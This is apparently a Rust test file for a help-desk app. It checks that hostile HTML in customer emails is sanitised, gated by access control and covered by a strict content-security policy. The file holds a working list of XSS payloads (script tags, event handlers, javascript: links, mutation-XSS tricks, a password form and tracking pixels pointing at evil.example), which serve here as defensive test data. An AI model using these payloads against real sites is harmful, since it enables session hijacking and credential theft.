//! What customers write by mail, shown safely.
use axum::http::StatusCode;
use testkit::{Town, both};

use crate::ORG;
use crate::browser::Browser;

const CARD: &str = "/desk/cases/%D0%9F-00001";

/// Everything that a letter may try to do to whoever reads it.
const HOSTILE: &str = r#"<html><head><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">
<style>body{background:url(https://evil.example/css)}</style><link rel="stylesheet" href="https://evil.example/a.css"></head>
<body onload="alert(1)" background="https://evil.example/bg.png">Нет интернета <b>третий день</b>
<script>alert(2)</script><img src=x onerror=alert(3)><img src="https://evil.example/pixel.png"><img src="//evil.example/pixel2.png">
<img src="cid:logo"><svg onload=alert(4)></svg><a href="javascript:alert(5)">раз</a><a href="https://client.example/photo">фото</a>
<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=p type=password></form>
<math><mtext><table><mglyph><style><img src onerror=alert(6)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(7)>"></noscript>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y"><video src="https://evil.example/v"></video>
<p style="background:url('https://evil.example/z')">конец</p></body></html>"#;

async fn arrives(town: &Town, html: &str, text: Option<&str>) {
    town.at("2026-03-06 10:00");
    let letter = town.letter("\"<script>alert(8)</script>\" <larisa@client.example>").await;
    let letter = letter.about("<img src=x onerror=alert(9)>").with("MIME-Version", "1.0");
    let letter = match text {
        Some(text) => letter.with("Content-Type", "text/plain; charset=utf-8").saying(text),
        None => {
            let related = "multipart/related; boundary=\"b\"";
            let page = format!("--b\nContent-Type: text/html; charset=utf-8\n\n{html}\n");
            let picture = "--b\nContent-Type: image/png\nContent-ID: <logo>\nContent-Transfer-Encoding: base64\n\niVBORw0KGgoAAAA=\n--b--";
            letter.with("Content-Type", related).saying(&format!("{page}{picture}"))
        }
    };
    town.mail(letter).await;
}

both!(a_letter_is_shown_as_it_came_and_can_do_nothing, ORG, |town| {
    arrives(town, HOSTILE, None).await;
    let mut anna = Browser::signed_in(town, "manager").await;
    let card = anna.get(CARD).await.good();
    card.says("sandbox=\"allow-popups allow-popups-to-escape-sandbox\"");
    let page = anna.get(&format!("{CARD}/letters/1")).await.good();
    page.says("<b>третий день</b>");
    page.says("data:image/png;base64,");
    page.says("https://client.example/photo");
    page.says("Не показаны 4 рисунка из сети");
    for page in [&card, &page] {
        for evil in ["<script>alert", "onerror=alert(9)>", "<img src=x"] {
            page.does_not_say(evil);
        }
    }
    let shown = page.text.split("<article>").nth(1).unwrap();
    for evil in [
        "evil.example",
        "alert(",
        "onload",
        "onerror",
        "javascript:",
        "<iframe",
        "<form",
        "<input",
        "<svg",
        "<style",
        "<object",
        "<embed",
        "<video",
        "http-equiv",
        "<base",
        "background",
    ] {
        assert!(!shown.contains(evil), "{evil} in {shown}");
    }
    let policy = page.headers["content-security-policy"].to_str().unwrap();
    for part in
        ["default-src 'none'", "img-src data:", "sandbox", "frame-ancestors 'self'", "form-action 'none'"]
    {
        assert!(policy.contains(part), "{policy}");
    }
    assert!(
        !policy.contains("script") && !policy.contains("same-origin") && !policy.contains("unsafe"),
        "{policy}"
    );
    assert_eq!(page.headers["x-frame-options"], "SAMEORIGIN");
});

both!(history_and_signature_are_folded_and_at_hand, ORG, |town| {
    let text =
        "Когда придёт мастер?\n\n-- \nЛариса Петровна\n\n06.03.2026 9:00, Кредо пишет:\n> Претензия принята";
    arrives(town, "", Some(text)).await;
    let mut anna = Browser::signed_in(town, "manager").await;
    let card = anna.get(CARD).await.good();
    let fresh = card.text.split("message-text\">").nth(1).unwrap().split("</p>").next().unwrap();
    assert_eq!(fresh, "Когда придёт мастер?");
    card.says("История переписки и подпись");
    card.says("Лариса Петровна");
    card.says("&#62; Претензия принята");
    let page = anna.get(&format!("{CARD}/letters/1")).await.good();
    page.says("В письме только текст");
    page.says("&#60;img src=x onerror=alert(9)&#62;");
});

both!(a_letter_is_for_those_who_see_the_case, ORG, |town| {
    arrives(town, HOSTILE, None).await;
    let mut head = Browser::signed_in(town, "head of network").await;
    assert_eq!(head.get(&format!("{CARD}/letters/1")).await.status, StatusCode::NOT_FOUND);
    let mut anna = Browser::signed_in(town, "manager").await;
    for other in ["0", "2", "9", "none", "1x"] {
        let page = anna.get(&format!("{CARD}/letters/{other}")).await;
        assert_eq!(page.status, StatusCode::NOT_FOUND, "{other}");
    }
});

both!(contacts_of_whom_nobody_knows_by_name_are_masked_wherever_they_stand, ORG, |town| {
    town.at("2026-03-06 10:00");
    let html = "<p>Звоните +7 916 <b>555</b>-44-33 или 916 5554434</p><p>Пишите me<b>@</b>naked.example</p>";
    let letter =
        town.letter("hidden.mailer@naked.example").await.about("Нет связи").with("MIME-Version", "1.0");
    let letter = letter.with("Content-Type", "text/html; charset=utf-8").saying(html);
    let app::Settled::Registered { number } = town.mail(letter).await else { panic!() };
    let part = casework::case::Participant {
        department: None,
        person: Some("employee".into()),
        part: "разбор".into(),
    };
    let part = casework::Command::AddParticipant { participant: part };
    town.command(&number, "manager", part).await.unwrap();
    let mut kim = Browser::signed_in(town, "employee").await;
    let card = kim.get(CARD).await.good();
    let letter = kim.get(&format!("{CARD}/letters/1")).await.good();
    let form = [("q", "hidden.mailer@naked.example")];
    let found = kim.post("/desk/cases/new/customers", &form).await.good();
    assert!(found.text.contains("h•••••"), "{}", found.text);
    for page in [card, letter, found] {
        for open in
            ["naked.example</", "naked</", "hidden.mailer", "555-44-33", "<b>555", "5554434", "me<b>@</b>n"]
        {
            page.does_not_say(open);
        }
    }
    let mut anna = Browser::signed_in(town, "manager").await;
    anna.get(CARD).await.good().says("hidden.mailer@naked.example</h1>");
});
